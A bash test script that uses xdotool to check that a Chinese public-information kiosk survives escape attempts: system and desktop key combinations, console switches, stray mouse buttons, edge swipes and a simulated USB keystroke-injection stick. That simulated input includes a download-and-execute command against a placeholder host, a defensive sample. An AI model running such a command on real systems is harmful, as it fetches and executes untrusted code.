#!/bin/bash
# The public room, under bare X: keys of a keyboard hidden in a stick, all mouse buttons, edges, drags. Nothing leads
# out of the program, to another window or to the staff's side, and the screen answers as before.
set -u
: "${BUILD:=build}"
SET=jiqiang
. tools/demo-now.sh
. tests/display.sh
. tests/hand.sh
DATA=$work/data
fill >"$work/import" 2>&1 || { cat "$work/import"; exit 1; }
display_start 1920x1080
kiosk_start --data "$DATA" --now "$NOW"
ok "the kiosk shows its first frame" $?
wait_screen home
windows() { xdotool search --onlyvisible --name '.*' 2>/dev/null | sort; }
covered() { xdotool getwindowgeometry "$WINDOW" | grep -q 'Geometry: 1920x1080' && xdotool getwindowgeometry "$WINDOW" | grep -q 'Position: 0,0'; }
files() { (cd "$DATA" && find . -name '*.db' -path '*editions*' -o -path '*media*' -type f | sort | xargs sha256sum); }
WINDOW=$(xdotool search --pid "$KIOSK" | head -1)
BEFORE=$(windows) FILES=$(files)
held() { # WHAT: after something was tried
    kill -0 "$KIOSK" 2>/dev/null; ok "$1: it runs" $?
    [ "$(windows)" = "$BEFORE" ]; ok "$1: no other window" $?
    covered; ok "$1: it covers the screen" $?
    [ "$(pgrep -P "$KIOSK")" = "$(other_half)" ] && [ -z "$(pgrep -P "$(other_half)")" ]; ok "$1: it started nothing" $?
    case "$(shown)" in staff-*) false ;; *) true ;; esac; ok "$1: not the staff's side" $?
}
keys() { for key; do xdotool key --delay 1 "$key" 2>/dev/null; done; }
keys alt+F4 alt+Tab alt+shift+Tab alt+Escape alt+space alt+F1 alt+F2 alt+Return F10 Menu
held "keys of a desktop"
keys super Super_L super+d super+l super+r super+Tab ctrl+Escape ctrl+alt+t ctrl+alt+Delete ctrl+shift+Escape Print
held "keys of a system"
for n in 1 2 3 4 5 6 7 8 9 10 11 12; do keys ctrl+alt+F$n F$n; done
keys ctrl+alt+BackSpace Sys_Req alt+Sys_Req+b
held "keys of a server"
keys ctrl+q ctrl+w ctrl+c ctrl+z ctrl+n ctrl+o ctrl+p ctrl+s F11 F5 Escape Home BackSpace Delete Return Tab
held "keys of a program"
keys XF86PowerOff XF86Sleep XF86HomePage XF86Explorer XF86Mail XF86Calculator XF86WWW XF86LogOff XF86Eject
held "keys of a keyboard with more keys"
# what a stick that is a keyboard types: a shell, a browser, a staff's password
xdotool type --delay 1 'sh
wget http://example.invalid/x -O /tmp/x && sh /tmp/x
123456
480215
'
held "a keyboard that types by itself"
for button in 2 3 4 5 6 7 8 9; do xdotool mousemove $((button * 190)) 500 click $button click $button; done
held "every other button"
for edge in "0 540 960 540" "1919 540 960 540" "960 0 960 540" "960 1079 960 540" "0 0 600 400" "1919 0 1200 400" "0 1079 600 700" "1919 1079 1200 700"; do
    set -- $edge
    xdotool mousemove "$1" "$2" mousedown 1 mousemove $((($1 + $3) / 2)) $((($2 + $4) / 2)) mousemove "$3" "$4" mouseup 1
    xdotool mousemove "$3" "$4" mousedown 1 mousemove "$1" "$2" mouseup 1
done
held "swipes from every edge and corner"
for corner in "0 0" "1919 0" "0 1079" "1919 1079"; do
    xdotool mousemove $corner click --repeat 12 --delay 5 1
    xdotool mousemove $corner mousedown 1; sleep 1; xdotool mouseup 1
done
held "taps and a long press in every corner"
xdotool mousemove 960 540 keydown ctrl keydown alt mousedown 1 mousedown 3 mouseup 3 mouseup 1 keyup alt keyup ctrl
xdotool mousemove 960 540 click --repeat 200 --delay 1 1
held "two hundred taps at once"
[ "$(files)" = "$FILES" ]; ok "the content is as it was" $?
# and whoever comes next finds a screen that answers
is_shown home || tap_word 首页
wait_screen home; ok "home is one touch away" $?
tap_word 卫生排名 && wait_screen rank; ok "and answers" $?
kiosk_stop; ok "SIGTERM ends it" $?
echo "$passed passed, $failed failed"
[ $failed -eq 0 ]
